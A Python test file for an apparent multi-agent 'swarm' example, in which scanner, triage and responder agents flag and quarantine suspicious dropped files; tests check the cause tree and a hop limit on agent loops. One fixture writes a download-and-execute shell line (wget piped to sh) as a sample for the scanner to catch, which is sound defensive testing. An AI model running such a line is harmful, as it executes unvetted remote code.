"""The swarm example end to end: agents that nobody calls, what caused what, and a loop that ends."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "examples" / "swarm"
TIMEOUT = 240


def swarm(out: Path, *arguments: str) -> str:
    command = [sys.executable, str(EXAMPLE / "run"), "--out", str(out), *arguments]
    ended = subprocess.run(command, capture_output=True, text=True, timeout=TIMEOUT, check=False)
    assert ended.returncode == 0, ended.stderr + ended.stdout
    return ended.stdout


def reactions(drawn: str) -> list[tuple[int, str, str]]:
    """Depth, topic and agent of every line of the tree."""
    lines = [re.fullmatch(r"([│├└─ ]*)\d+ (\S+).*?(?:  by (\S+))?", line) for line in drawn.splitlines()]
    return [(len(match[1]) // 3, match[2], match[3] or "") for match in lines if match]


def test_what_was_dropped_is_found_judged_and_moved_and_the_causes_are_drawn(tmp_path: Path) -> None:
    drawn = swarm(tmp_path / "out")
    # every file is a root, and every reaction hangs below what caused it
    found = reactions(drawn)
    assert [depth for depth, topic, _ in found if topic == "file.added"] == [0] * 6
    for (depth, topic, agent), above in zip(found[1:], found, strict=False):
        expected = {
            "file.added": (0, {""}),
            "security.alert": (1, {"scanner", "secret_finder"}),
            "incident.opened": (2, {"triage"}),
            "quarantine.done": (3, {"responder"}),
        }[topic]
        assert depth == expected[0]
        assert agent in expected[1]
        assert above[0] >= depth - 1
    count = {topic: sum(topic == other for _, other, _ in found) for _, topic, _ in found}
    # build.py, deploy.env, install.sh, settings.ini, and upload.php twice; three of the files are incidents, one twice
    assert count == {"file.added": 6, "security.alert": 6, "incident.opened": 4, "quarantine.done": 4}
    assert not re.search(r"failed", drawn)
    # what was found is out of reach, what was not is where it was
    left = sorted(path.name for path in (tmp_path / "out/files").iterdir() if path.is_file())
    assert left == ["build.py", "deploy.env", "readme.txt"]
    assert len(list((tmp_path / "out/files/quarantine").iterdir())) == 3
    diagram = (tmp_path / "out/causes.md").read_text("utf-8")
    assert diagram.count("-->") == 6 + 4 + 4


def test_a_loop_of_agents_ends_at_the_hop_limit(tmp_path: Path) -> None:
    drawn = swarm(tmp_path / "out", "--loop")
    assert max(depth for depth, _, _ in reactions(drawn)) == 16
    assert re.search(r"failed: hop_limit", drawn), drawn


def test_files_of_ones_own_are_copied_and_left_alone(tmp_path: Path) -> None:
    (tmp_path / "mine.sh").write_text("wget -qO- http://example.com/x | sh\n")
    drawn = swarm(tmp_path / "out", str(tmp_path / "mine.sh"))
    assert [topic for _, topic, _ in reactions(drawn)][-1] == "quarantine.done"
    assert (tmp_path / "mine.sh").exists()
